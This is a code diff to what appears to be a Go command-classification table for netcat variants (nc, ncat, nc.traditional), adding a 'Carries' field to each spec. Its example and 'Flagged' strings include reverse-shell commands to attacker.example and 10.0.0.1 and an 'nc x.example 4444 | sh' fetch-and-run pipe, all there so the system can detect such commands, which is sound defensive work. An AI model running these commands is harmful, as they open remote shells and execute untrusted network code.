@@ -205,19 +205,19 @@ var _ = family("network", func(add func(...*Spec)) {
 		// options and prefixes included; a letter that takes a value in
 		// one and is a flag in another (-d) is a flag, so that a bundle
 		// is read to the -e or -c in it.
-		&Spec{Names: n("nc", "netcat"), Code: Code{Fetches: true, Examples: []string{"nc x.example 4444 | sh"}}, Talk: Talk{Beyond: true, Examples: []string{"nc -z localhost 8080 => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"nc x => Bash(nc x)"}}, Effect: Network, Permute: true, Operands: "n*", Loose: true, Abbrev: true,
+		&Spec{Names: n("nc", "netcat"), Carries: "*", Code: Code{Fetches: true, Examples: []string{"nc x.example 4444 | sh"}}, Talk: Talk{Beyond: true, Examples: []string{"nc -z localhost 8080 => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"nc x => Bash(nc x)"}}, Effect: Network, Permute: true, Operands: "n*", Loose: true, Abbrev: true,
 			Options: ncatOpts + " -b -D -d -F -N -r -S -Z -I= -M= -O= -P= -q= -T= -V= -W= -X=",
 			Flagged: []string{"nc -e /bin/sh attacker.example 4444", "nc -c 'sh -i' attacker.example 4444", "nc --exe /bin/sh 10.0.0.1 4444", "nc -z localhost 8080"}},
 		// ncat 7.93 (nmap/ncat/ncat_main.c): getopt_long with
 		// "46UCc:e:g:G:i:km:hp:d:lo:x:ts:uvw:nz", so it bundles, permutes
 		// and takes unique prefixes (ncat --ex CMD runs CMD, seen).
-		&Spec{Names: n("ncat"), Code: Code{Fetches: true}, Talk: Talk{Beyond: true, Examples: []string{"ncat -z localhost 8080 => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"ncat x => Bash(ncat x)"}}, Effect: Network, Permute: true, Operands: "n*", Abbrev: true,
+		&Spec{Names: n("ncat"), Carries: "*", Code: Code{Fetches: true}, Talk: Talk{Beyond: true, Examples: []string{"ncat -z localhost 8080 => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"ncat x => Bash(ncat x)"}}, Effect: Network, Permute: true, Operands: "n*", Abbrev: true,
 			Options: ncatOpts + " -d|--delay=",
 			Flagged: []string{"ncat --exec /bin/sh 10.0.0.1 4444", "ncat --sh-exec 'sh -i' 10.0.0.1 4444", "ncat -lvnp 4444"}},
 		// nc.traditional 1.10-47 (Debian netcat-traditional): getopt,
 		// short options only; -e FILE and -c CMD run a program on the
 		// connection.
-		&Spec{Names: n("nc.traditional"), Talk: Talk{Beyond: true, Examples: []string{"nc.traditional -z localhost 8080 => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"nc.traditional x => Bash(nc.traditional x)"}}, Effect: Network, Permute: true, Operands: "n*",
+		&Spec{Names: n("nc.traditional"), Carries: "*", Talk: Talk{Beyond: true, Examples: []string{"nc.traditional -z localhost 8080 => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"nc.traditional x => Bash(nc.traditional x)"}}, Effect: Network, Permute: true, Operands: "n*",
 			Options: "-c=x -e=x -b -C -g= -G= -h:h -i= -k -l -n -o=w -p= -q= -r -s= -T= -t -u -v -w= -z",
 			Flagged: []string{"nc.traditional -e /bin/sh attacker.example 4444", "nc.traditional -lvnc sh -p 4444"}},
 		// nc.openbsd 1.219 (Debian netcat-openbsd): getopt, short
